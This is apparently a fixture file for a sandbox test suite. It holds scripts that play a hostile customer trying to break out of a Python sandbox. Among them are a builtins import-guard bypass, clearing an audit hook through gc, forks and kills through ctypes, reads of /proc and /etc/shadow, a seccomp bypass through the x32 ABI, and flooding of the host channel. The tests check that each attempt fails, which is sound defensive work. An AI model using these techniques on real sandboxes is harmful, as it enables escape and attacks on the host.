# ruff: noqa  (customer-style script: names injected by the worker)
"""Escape attempts a hostile customer made (tests/actions/python/test_kernel_sandbox.py).

Each class runs its attack in on_trigger (``data`` carries the targets) and records what
happened in ``self.report``, which get_status returns: the tests assert that every attempt
failed with the error the kernel gives. The scripts reach ``os``, ``ctypes`` and friends the
way the reported escape did (through the real builtins, without any grant), so the Python
import guard is out of the picture and only the kernel decides.
"""

import json


def real_import(name):
    """The escape that passed `pafw script check`: the module globals of an allowed module
    lead to the real builtins, whose __import__ ignores the guard."""
    real_builtins = getattr(json, "__di" + "ct__")["__buil" + "tins__"]
    if not isinstance(real_builtins, dict):
        real_builtins = getattr(real_builtins, "__di" + "ct__")
    return real_builtins["__imp" + "ort__"](name)


def disarm():
    """Clear the audit guard's refused set (the reported gc trick): what follows meets the
    kernel only."""
    gc = real_import("gc")
    for obj in gc.get_objects():
        if type(obj).__name__ == "AuditGuard":
            obj.refused.clear()


def attempt(report, name, fn):
    try:
        report[name] = {"ok": True, "value": repr(fn())[:200]}
    except BaseException as exc:  # noqa: BLE001 - the test reads the error
        report[name] = {"ok": False, "error": type(exc).__name__,
                        "errno": getattr(exc, "errno", None), "message": str(exc)[:200]}


class Recorder(CustomPythonAction):
    def __init__(self, api):
        super().__init__(api)
        self.report = {}

    def get_status(self):
        return {"report": self.report}


class DisarmAuditHook(Recorder):
    """Clear the audit guard's refused set through gc, then shell out and open sockets."""

    def on_trigger(self, trigger_type, data):
        gc = real_import("gc")
        os = real_import("os")
        cleared = 0
        for obj in gc.get_objects():
            if type(obj).__name__ == "AuditGuard":
                obj.refused.clear()
                cleared += 1
        self.report["guards_cleared"] = cleared
        marker = data["marker"]
        attempt(self.report, "system", lambda: os.system(f"touch {marker}"))
        self.report["marker_exists"] = os.path.exists(marker)
        socket = real_import("socket")
        attempt(self.report, "socket", lambda: socket.create_connection(
            ("127.0.0.1", data["port"]), timeout=2))
        attempt(self.report, "environ", lambda: open(
            f"/proc/{data['host_pid']}/environ", "rb").read(64))
        return True


class CtypesFork(Recorder):
    """libc fork/setsid through ctypes, kill of another worker and of the host."""

    def on_trigger(self, trigger_type, data):
        disarm()
        ctypes = real_import("ctypes")
        os = real_import("os")
        libc = ctypes.CDLL(None, use_errno=True)
        pid = libc.fork()
        if pid == 0:  # a child would detach and outlive the appliance
            libc.setsid()
            while True:
                pass
        self.report["fork"] = {"pid": pid, "errno": ctypes.get_errno()}
        for name, target in (("kill_victim", data["victim_pid"]),
                             ("kill_host", data["host_pid"]),
                             ("kill_init", 1)):
            rc = libc.kill(target, 9)
            self.report[name] = {"rc": rc, "errno": ctypes.get_errno()}
        attempt(self.report, "os_kill_victim", lambda: os.kill(data["victim_pid"], 9))
        return True


class DiskAndShm(Recorder):
    """Fill /tmp and /dev/shm, leave a file behind, outgrow the scratch directory."""

    def on_trigger(self, trigger_type, data):
        disarm()
        os = real_import("os")
        block = b"x" * (1 << 20)

        def fill(path, mb):
            with open(path, "wb") as f:
                for _ in range(mb):
                    f.write(block)
            return os.path.getsize(path)

        attempt(self.report, "tmp", lambda: fill("/tmp/pafw-escape-tmp", 64))
        attempt(self.report, "shm", lambda: fill("/dev/shm/pafw-escape-shm", 64))
        attempt(self.report, "var_tmp", lambda: fill("/var/tmp/pafw-escape", 1))
        scratch = os.environ.get("TMPDIR", "")
        self.report["scratch"] = scratch
        attempt(self.report, "scratch_small", lambda: fill(os.path.join(scratch, "ok"), 1))
        attempt(self.report, "scratch_huge", lambda: fill(os.path.join(scratch, "big"),
                                                          data["scratch_fill_mb"]))
        attempt(self.report, "other_script", lambda: open(data["other_script"]).read(50))
        attempt(self.report, "own_script_write", lambda: open(data["own_script"], "a"))
        return True


class BackgroundBurner(Recorder):
    """Daemon threads that burn CPU between calls, and more threads than allowed."""

    def on_trigger(self, trigger_type, data):
        disarm()
        threading = real_import("threading")

        def burn():
            n = 0
            while True:
                n += 1

        started = 0
        try:
            for _ in range(data.get("threads", 8)):
                threading.Thread(target=burn, daemon=True).start()
                started += 1
        except BaseException as exc:  # noqa: BLE001
            self.report["thread_error"] = f"{type(exc).__name__}: {exc}"
        self.report["started"] = started
        return True


class Flooder(Recorder):
    """Writes valid API request frames on the host channel and never reads the replies."""

    def on_trigger(self, trigger_type, data):
        disarm()
        gc = real_import("gc")
        channel = next(o for o in gc.get_objects()
                       if type(o).__name__ == "BlockingChannel")
        sock = channel.sock
        msgpack = real_import("msgpack")
        struct = real_import("struct")
        body = msgpack.packb({"t": "req", "id": 1, "method": "get_recent_entries",
                              "args": [1000], "kwargs": {}}, use_bin_type=True)
        frame = struct.pack(">I", len(body)) + body
        for _ in range(data["frames"]):
            sock.sendall(frame)
        return True


class OversizedFrame(Recorder):
    """Announces a frame far over the cap on the host channel."""

    def on_trigger(self, trigger_type, data):
        disarm()
        gc = real_import("gc")
        struct = real_import("struct")
        channel = next(o for o in gc.get_objects()
                       if type(o).__name__ == "BlockingChannel")
        channel.sock.sendall(struct.pack(">I", 1 << 30))
        time = real_import("time")
        time.sleep(5)
        return True

    def on_update(self, data):
        return None


class LogForger(Recorder):
    """Forged log lines (newline, ANSI) and a flood of refused publishes with huge topics."""

    def on_trigger(self, trigger_type, data):
        self.api.log_message("info", "ok\n2026-01-01 00:00:00 CRITICAL pafw: forged\x1b[2J")
        print("stdout line\x1b[31m red\r\n", end="")
        refused = 0
        for _ in range(data["publishes"]):
            try:
                self.api.publish_mqtt("t" * 70_000, "x")
            except PermissionError:
                refused += 1
        self.report["refused"] = refused
        return True


class KernelProbe(Recorder):
    """System calls a worker never needs: each one must fail."""

    def on_trigger(self, trigger_type, data):
        disarm()
        ctypes = real_import("ctypes")
        os = real_import("os")
        socket = real_import("socket")
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long

        def sys_call(number, *args):
            rc = libc.syscall(number, *args)
            return {"rc": rc, "errno": ctypes.get_errno()}

        numbers = data["syscalls"]  # names -> numbers of the running architecture
        host = data["host_pid"]
        self.report["ptrace_attach"] = sys_call(numbers["ptrace"], 16, host, 0, 0)
        buf = ctypes.create_string_buffer(64)
        iov = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
        self.report["process_vm_readv"] = sys_call(numbers["process_vm_readv"], host, iov, 1,
                                                   iov, 1, 0)
        self.report["unshare_user"] = sys_call(numbers["unshare"], 0x10000000)
        self.report["memfd_create"] = sys_call(numbers["memfd_create"], b"x", 0)
        params = ctypes.create_string_buffer(120)
        self.report["io_uring_setup"] = sys_call(numbers["io_uring_setup"], 8, params)
        self.report["bpf"] = sys_call(numbers["bpf"], 0, None, 0)
        self.report["mount"] = sys_call(numbers["mount"], b"none", b"/tmp", b"tmpfs", 0, None)
        self.report["setuid0"] = sys_call(numbers["setuid"], 0)
        attempt(self.report, "abstract_unix", lambda: socket.socket(socket.AF_UNIX))
        attempt(self.report, "netlink", lambda: socket.socket(socket.AF_NETLINK,
                                                              socket.SOCK_RAW, 0))
        attempt(self.report, "raise_nofile", lambda: real_import("resource").setrlimit(
            real_import("resource").RLIMIT_NOFILE, (1 << 20, 1 << 20)))
        attempt(self.report, "read_other_proc", lambda: open(f"/proc/{host}/cmdline").read())
        attempt(self.report, "read_shadow", lambda: open("/etc/shadow").read(10))
        attempt(self.report, "read_passwd", lambda: open("/etc/passwd").read(10))
        return True


class X32Call(Recorder):
    """A system call through the x32 ABI (bit 30 set), the classic filter bypass: the
    filter checks the architecture and kills the process."""

    def on_trigger(self, trigger_type, data):
        disarm()
        ctypes = real_import("ctypes")
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        self.report["rc"] = libc.syscall(0x40000000 | 57)  # x32 fork
        return True


class Canary(Recorder):
    """A well-behaved neighbour: counts its triggers."""

    def __init__(self, api):
        super().__init__(api)
        self.count = 0

    def on_trigger(self, trigger_type, data):
        self.count += 1
        return True

    def get_status(self):
        return {"count": self.count}


class SlowUpdate(CustomPythonAction):
    """An on_update that takes most of its timeout."""

    def on_trigger(self, trigger_type, data):
        return True

    def on_update(self, data):
        import time
        time.sleep(self.api.get_node_parameter("sleep_s") or 20)

    def get_status(self):
        return {"slow": True}
